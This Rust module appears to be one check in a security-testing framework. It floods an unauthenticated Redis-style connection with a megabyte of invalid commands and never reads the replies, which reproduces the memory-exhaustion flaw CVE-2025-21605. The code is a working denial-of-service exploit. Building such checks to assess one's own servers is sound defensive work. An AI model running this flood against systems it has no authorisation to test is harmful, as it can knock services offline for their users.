//! ATK-024.

use std::time::Duration;

use redan_model::ProofVerdict;
use redan_net::End;

use crate::attack;
use crate::attack::Outcome;
use crate::scene::Scene;

attack! {
    /// Sends, without a login, a megabyte of commands that are one letter long and do not exist,
    /// and reads no reply until all are sent. The replies are eighteen times as large; what the
    /// network does not take, the server keeps.
    ///
    /// # Gain
    /// Without any password, a few connections take the memory of the server (CVE-2025-21605).
    ///
    /// # Clean-up
    /// The connection is closed, and the server drops what it kept.
    ///
    /// # Sources
    /// - CVE-2025-21605 (<https://nvd.nist.gov/vuln/detail/CVE-2025-21605>)
    /// - Redis documentation, handling of clients (<https://redis.io/docs/latest/develop/reference/clients/>)
    "ATK-024", "unread-replies";
    title: "The server keeps replies for a stranger who does not read them",
    proves: ["LIM-005", "AUTH-001"], needs: [],
    destructive: false, turn: Alone,
    run: run,
}

/// Inline, since that is the shortest. The error that answers it has over fifty bytes.
const COMMAND: &[u8] = b"x\r\n";
/// Commands in one write.
const BATCH: usize = 10_000;
/// Writes: a megabyte in all.
const BATCHES: usize = 35;
/// How long the server may be silent before its last reply is taken to be here.
const PATIENCE: Duration = Duration::from_secs(1);

async fn run(scene: &Scene) -> Outcome {
    let mut line = scene.raw_stranger().await?;
    let batch = COMMAND.repeat(BATCH);
    for _ in 0..BATCHES {
        if line.send_silently(&batch).await.is_err() {
            return Ok(hung_up(scene));
        }
    }
    let sent = BATCH * BATCHES;
    scene.transcript().remark(&format!("{sent} commands were sent before a reply was read"));
    let (read, end) = line.drain(PATIENCE).await?;
    Ok(match end {
        End::Closed => hung_up(scene),
        _ => ProofVerdict::Succeeded(format!("the server kept {} MiB of replies", read >> 20)),
    })
}

fn hung_up(scene: &Scene) -> ProofVerdict {
    let reason = "the server hangs up on a stranger who does not read";
    scene.transcript().remark(reason);
    ProofVerdict::Blocked(reason.into())
}
